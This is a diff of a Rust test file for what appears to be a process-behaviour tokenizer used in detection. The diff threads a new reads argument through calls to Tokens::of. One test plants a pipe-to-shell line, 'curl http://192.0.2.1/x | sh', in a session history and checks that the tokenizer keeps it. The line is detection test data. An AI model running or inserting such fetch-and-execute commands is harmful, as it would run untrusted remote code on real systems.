@@ -4,7 +4,7 @@ use super::*;
 
 fn check(json: &str) -> String {
     let story = Story::from_json(json.as_bytes()).unwrap();
-    let tokens = Tokens::of(&story, Limits::default());
+    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
     tokens
         .iter()
         .map(|(field, piece)| format!("{field:?}:{piece}"))
@@ -52,7 +52,7 @@ fn the_stream_is_bounded_and_the_process_stays_in_it() {
     story.ancestors = vec![relative.clone(); 100_000];
     story.children = vec![relative; 1000];
     story.session = vec!["echo x".to_owned(); 1000];
-    let tokens = Tokens::of(&story, Limits::default());
+    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
     assert!(tokens.len() <= 256);
     assert!(tokens.iter().any(|token| token == (Field::Stdio, "in=tty")));
     assert!(tokens.iter().any(|(field, _)| field == Field::ChildExe));
@@ -67,7 +67,7 @@ fn the_telling_line_of_a_long_session_stays() {
     story
         .session
         .push("curl http://192.0.2.1/x | sh".to_owned());
-    let tokens = Tokens::of(&story, Limits::default());
+    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
     assert!(tokens.len() <= 256);
     assert!(tokens.iter().any(|token| token == (Field::Command, "curl")));
 }
@@ -78,5 +78,8 @@ fn ten_megabytes_of_text_cost_no_more_than_the_bound() {
         command: Some("a;".repeat(5_000_000)),
         ..Story::default()
     };
-    assert_eq!(Tokens::of(&story, Limits::default()).len(), 256);
+    assert_eq!(
+        Tokens::of(&story, Limits::default(), &Reads::everything()).len(),
+        256
+    );
 }
